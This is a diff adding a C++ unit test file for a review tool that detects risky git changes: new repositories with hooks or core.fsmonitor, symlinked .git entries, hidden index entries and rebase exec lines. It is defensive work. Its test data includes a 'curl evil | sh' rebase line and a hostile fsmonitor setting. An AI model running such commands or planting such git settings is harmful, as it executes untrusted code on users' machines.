@@ -1,0 +1,67 @@
+#include "review/review.h"
+
+#include <gtest/gtest.h>
+
+namespace paddock::review {
+namespace {
+
+const std::string kProject = "/p";
+
+bool Has(const std::vector<Finding>& f, const std::string& kind, const std::string& text) {
+  for (const auto& x : f)
+    if (x.kind == kind && x.detail.find(text) != std::string::npos) return true;
+  return false;
+}
+
+TEST(Review, NewRepositoriesWithWhatTheyWouldRun) {
+  Snapshot before, after;
+  before.git_entries = {"/p/old/.git"};
+  after.git_entries = {"/p/old/.git", "/p/sub/.git", "/p/link/.git"};
+  after.traits["/p/sub/.git"] = AnalyzeRepo("[core]\n\tfsmonitor = ./x\n[alias]\n\tst = status\n",
+                                            {"post-checkout", "pre-commit.sample"});
+  RepoTraits link;
+  link.symlink = true;
+  link.pointer = "../fake";
+  after.traits["/p/link/.git"] = link;
+  after.module_git_dirs = {"/p/.git/modules/m"};
+  auto f = Compare(before, after, kProject);
+  EXPECT_TRUE(Has(f, "new-repository", "at sub/ (host git will run: hook post-checkout, core.fsmonitor)"));
+  EXPECT_TRUE(Has(f, "new-repository", "symbolic link to ../fake"));
+  EXPECT_TRUE(Has(f, "new-repository", "submodule git dir) .git/modules/m"));
+  EXPECT_FALSE(Has(f, "new-repository", "old/"));
+  EXPECT_EQ(f.size(), 3u);
+}
+
+TEST(Review, NewlyHiddenIndexEntriesOnly) {
+  Snapshot before, after;
+  const std::string idx = "/p/.git/index";
+  before.hidden[idx] = {std::string("skip-worktree") + '\0' + "sparse.txt"};
+  after.hidden[idx] = {std::string("skip-worktree") + '\0' + "sparse.txt",
+                       std::string("assume-unchanged") + '\0' + "src/a.c"};
+  auto f = Compare(before, after, kProject);
+  ASSERT_EQ(f.size(), 1u);
+  EXPECT_EQ(f[0].path, "src/a.c");
+  EXPECT_NE(f[0].detail.find("git update-index --no-assume-unchanged src/a.c"), std::string::npos);
+}
+
+TEST(Review, ExecLinesOfUnfinishedRebases) {
+  EXPECT_EQ(TodoExecLines("pick 1 a\n  exec make test\nx curl evil | sh\nedit 2 b\n"),
+            (std::set<std::string>{"exec make test", "x curl evil | sh"}));
+  Snapshot before, after;
+  const std::string todo = "/p/.git/rebase-merge/git-rebase-todo";
+  before.todo_exec[todo] = {"exec make test"};
+  after.todo_exec[todo] = {"exec make test", "x curl evil | sh"};
+  auto f = Compare(before, after, kProject);
+  ASSERT_EQ(f.size(), 1u);
+  EXPECT_TRUE(Has(f, "todo-exec", "\"x curl evil | sh\""));
+}
+
+TEST(Review, NothingChangedNothingReported) {
+  Snapshot s;
+  s.git_entries = {"/p/a/.git"};
+  s.hidden["/p/.git/index"] = {std::string("skip-worktree") + '\0' + "x"};
+  EXPECT_TRUE(Compare(s, s, kProject).empty());
+}
+
+}  // namespace
+}  // namespace paddock::review
